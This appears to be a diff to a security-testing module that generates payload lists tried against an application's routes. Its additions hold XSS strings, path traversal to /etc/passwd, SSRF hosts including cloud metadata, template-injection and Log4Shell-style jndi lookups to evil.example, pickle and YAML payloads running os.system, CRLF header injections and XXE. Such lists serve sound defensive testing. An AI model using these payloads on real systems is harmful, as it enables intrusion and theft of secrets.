@@ -100,3 +100,87 @@ UNICODE = [
 ]
 
 INPUTS = [*SCRIPTS, *TEMPLATES, *PATHS, *DATABASES, *SHELLS, *HEADERS, *SHEETS, *PATTERNS, *UNICODE]
+
+# --- further ones, by kind, each tried at some of the routes ------------------------------------------
+
+_TAGS = ("img src=x", "video src=x", "audio src=x", "body", "input autofocus", "select autofocus", "marquee", "svg")
+_EVENTS = ("onerror", "onfocus", "onload", "onpointerrawupdate", "onanimationend")
+_BREAKS = ("", "'", '"', "`", "</style>", "</noscript>", "-->", "]]>")
+_SCHEMES = ("javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", "vbscript", "data", "blob")
+_DEPTHS = ("..", "..;", "%2e%2e", "%252e%252e", "..%c0%af", "..%ef%bc%8f", ".%00.", "\uff0e\uff0e")
+_TARGETS = ("etc/passwd", "proc/self/environ", "ledger.sqlite", "users.json", "secret", "index/_MAIN_1.toc")
+_HOSTS = (
+    *("127.0.0.1", "localhost:9200", "[::1]", "0", "0x7f000001", "2130706433", "169.254.169.254", "metadata.internal"),
+    *("127.1", "evil.example#@localhost", "localhost@evil.example", "１２７.0.0.1"),
+)
+_BOMBS = ("(a+)+", "(a|a)*", "(.*a){20}", "([a-z]+)*", "(?:a?){30}a{30}", "^(\\s+)+$", "(x+x+)+y", "\\d+\\d+\\d+!")
+_FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", "＝", " =", "'=", '"=')
+_MACROS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "WEBSERVICE(A1)", "IMPORTXML(A1,B1)")
+_ENGINES = (
+    *("{{''.__class__.__mro__[1]}}", "{{request.application.__globals__}}", "{{cycler.__init__.__globals__.os}}"),
+    *(
+        "{%for x in range(9**9)%}x{%endfor%}",
+        "{{'a'*10**9}}",
+        "{# x #}",
+        "{{self}}",
+        "${{7*191}}",
+        "@(7*191)",
+        "*{7*191}",
+    ),
+    *("{0.__class__.__init__.__globals__}", "%(config)s", "{config[SECRET_KEY]}", "$" + "{jndi:ldap://evil.example/x}"),
+)
+_PICKLES = (
+    "cos\nsystem\n(S'id'\ntR.",
+    "\x80\x04\x95.",
+    "gASVAAAAAAAAAA==",
+    "!!python/object/apply:os.system ['id']",
+    'O:8:"x":0:{}',
+)
+_HEADS = (
+    *(
+        "x\r\nX-Evil: 1",
+        "x\r\n\r\n<script>1</script>",
+        "%E5%98%8A%E5%98%8DSet-Cookie:evil=1",
+        "x\u2028Set-Cookie: evil=1",
+    ),
+    *(
+        "x\x85Set-Cookie: evil=1",
+        "x%0aLocation:%20//evil.example",
+        "x\x0bSet-Cookie: evil=1",
+        "x%23%0dSet-Cookie:evil=1",
+    ),
+)
+_XML = (
+    *('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '<?xml-stylesheet href="//evil.example/x"?>'),
+    *('<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></x>', "&lol9;"),
+)
+_ENDS = (
+    "\u0000",
+    "\ud83d\ude00" * 60,
+    "\u0300" * 200,
+    "\u202e\u2066\u2069",
+    "\ufdd0",
+    "İ" * 50,
+    "ß" * 50,
+    "\u180e",
+    "﷽" * 20,
+)
+_NUMBERS = ("0x10", "1e999", "-0", "１２", "²", "⑫", "0" * 300 + "1", "9223372036854775808", "1_000", "inf", "٣", "廿")
+
+KINDS = {
+    "markup": [f"{end}<{tag} {event}=alert(1)>" for end in _BREAKS[:4] for tag in _TAGS for event in _EVENTS[:2]]
+    + [f"{end}<svg {event}=alert(1)>" for end in _BREAKS for event in _EVENTS],
+    "addresses": [f"{scheme}:alert(1)" for scheme in _SCHEMES]
+    + [f"<a href='{scheme}:text/html,<script>alert(1)</script>'>x</a>" for scheme in _SCHEMES],
+    "paths": [f"{'/'.join([depth] * 4)}/{target}" for depth in _DEPTHS for target in _TARGETS],
+    "requests to elsewhere": [f"{scheme}://{host}/" for scheme in ("http", "gopher") for host in _HOSTS],
+    "patterns": [f"{bomb}{'a' * 40}!" for bomb in _BOMBS] + [f"/{bomb}/" for bomb in _BOMBS],
+    "sheets": [f"{sign}{macro}" for sign in _FORMULAS for macro in _MACROS],
+    "templates": list(_ENGINES),
+    "pickles": list(_PICKLES),
+    "headers": list(_HEADS),
+    "xml": list(_XML),
+    "signs": list(_ENDS),
+    "numbers": list(_NUMBERS),
+}
+MORE = list(dict.fromkeys(one for several in KINDS.values() for one in several if one not in INPUTS))
